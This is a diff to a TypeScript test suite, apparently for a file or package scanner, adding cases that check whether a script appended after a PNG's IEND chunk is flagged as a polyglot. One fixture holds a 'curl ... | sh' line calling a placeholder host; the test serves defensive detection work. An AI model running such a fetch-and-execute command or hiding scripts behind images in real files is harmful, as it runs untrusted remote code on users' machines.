@@ -191,12 +191,31 @@ const HONEST_TEXTS: readonly Twin[] = [
   ['what is written that is no settings', writes('ss.json', '{"a":1}'), 'clean'],
 ];
 
+/** PNG specification 5.3: a length, a name, a checksum. */
+const png = (parts: number, behind: string): Omit<Sample, 'what'> =>
+  wheel('x = 1', {
+    'sample/a.png': {
+      hex: '89504e470d0a1a0a',
+      then: `${'\0\0\0\0tEXt\0\0\0\0'.repeat(parts)}\0\0\0\0IEND\0\0\0\0${behind}`,
+    },
+  });
+const PICTURES: readonly Case[] = [
+  [
+    'a script behind a picture of many parts',
+    png(100_001, '#!/bin/sh\ncurl https://x.invalid | sh\n'),
+    'warning',
+    'file-polyglot',
+  ],
+];
+const HONEST_PICTURES: readonly Twin[] = [['a picture of many parts', png(100_001, ''), 'clean']];
+
 const GROUPS: readonly (readonly [string, readonly Case[], readonly Twin[]])[] = [
   ['commands', COMMANDS, HONEST_COMMANDS],
   ['archives', ARCHIVES, HONEST_ARCHIVES],
   ['assets', ASSETS, HONEST_ASSETS],
   ['machine code', MACHINE_CODE, HONEST_MACHINE_CODE],
   ['texts and names', TEXTS, HONEST_TEXTS],
+  ['pictures', PICTURES, HONEST_PICTURES],
 ];
 
 async function analysisOf(what: string, sample: Omit<Sample, 'what'>) {
